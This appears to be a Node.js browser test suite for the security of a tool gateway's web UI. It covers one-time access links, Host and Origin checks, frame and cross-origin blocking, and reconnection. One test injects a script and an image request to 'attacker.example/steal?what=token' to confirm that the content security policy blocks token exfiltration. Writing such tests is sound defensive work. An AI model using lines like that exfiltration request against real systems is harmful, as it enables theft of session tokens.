// Who may see and do anything at all: the page of the person who opened it, and no other.

import assert from 'node:assert/strict';
import { request } from 'node:http';
import { after, before, test } from 'node:test';

import { launch, Session } from './browser.mjs';
import { Gateway, fake } from './gateway.mjs';
import { until } from './waiting.mjs';

let gateway;
let browser;

before(async () => {
  [gateway, browser] = await Promise.all([
    Gateway.start({ mcpServers: { time: fake() } }),
    launch(),
  ]);
});

after(async () => {
  await browser?.close();
  await gateway?.close();
});

/** The status of an answer to a request with headers that `fetch` would not send. */
function status(path, headers, method = 'GET') {
  const { hostname, port } = new URL(gateway.origin);
  return new Promise((resolve, reject) => {
    const asked = request({ hostname, port, path, method, headers }, (answer) => {
      answer.resume();
      resolve(answer.statusCode);
    });
    asked.once('error', reject);
    asked.end();
  });
}

test('the code is good once and leaves the address', async () => {
  const link = await gateway.link('/servers');
  const page = await browser.newPage();
  await page.goto(link);
  await page.locator('main h1').waitFor();
  assert.equal(new URL(page.url()).hash, '#/servers');
  const other = await browser.newPage();
  await other.goto(link);
  await other.getByText('toolgate ui').waitFor();
  await Promise.all([page.close(), other.close()]);
});

test('a page without a code shows nothing and says how to get in', async () => {
  const page = await browser.newPage();
  await page.goto(gateway.origin);
  await page.getByText('toolgate ui').waitFor();
  assert.equal(await page.getByText('time', { exact: true }).count(), 0);
  await page.close();
});

test('other hosts and other origins are refused', async () => {
  assert.equal(await status('/', {}), 200);
  assert.equal(await status('/', { host: 'attacker.example' }), 421);
  assert.equal(await status('/api/v1/session', { origin: 'https://attacker.example' }, 'POST'), 403);
  assert.equal(await status('/api/v1/status', {}), 401);
  assert.equal(await status('/api/v1/status', { authorization: 'Bearer wrong' }), 401);
});

test('another page can neither frame it nor read from it', async () => {
  const page = await browser.newPage();
  await page.setContent(`<iframe src="${gateway.origin}/"></iframe>`);
  const frame = await until('the frame is refused', () =>
    page.frames().find((frame) => frame !== page.mainFrame()),
  );
  assert.equal(await frame.locator('#app').count(), 0);
  const read = await page.evaluate(
    (address) => fetch(address).then(() => 'read', () => 'refused'),
    `${gateway.origin}/api/v1/status`,
  );
  assert.equal(read, 'refused');
  await page.close();
});

test('what is injected into a page does not run', async () => {
  const session = await Session.open(browser, gateway);
  const { page } = session;
  const ran = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.injected = true';
    document.body.append(script);
    const image = document.createElement('img');
    const blocked = new Promise((resolve) =>
      addEventListener('securitypolicyviolation', () => resolve(true), { once: true }),
    );
    image.src = 'http://attacker.example/steal?what=token';
    document.body.append(image);
    return { blocked: await blocked, injected: 'injected' in window };
  });
  assert.deepEqual(ran, { blocked: true, injected: false });
  await session.close();
});

test('a page finds back to a gateway that was started again', async () => {
  const session = await Session.open(browser, gateway, { path: '/servers' });
  const { page } = session;
  const lost = page.getByText('Not connected');
  await gateway.stop();
  await lost.waitFor();
  await gateway.launch();
  await lost.waitFor({ state: 'detached' });
  await gateway.server('time', 'ready');
  await page.getByRole('link', { name: 'time' }).first().waitFor();
  session.quiet();
  await session.close();
});
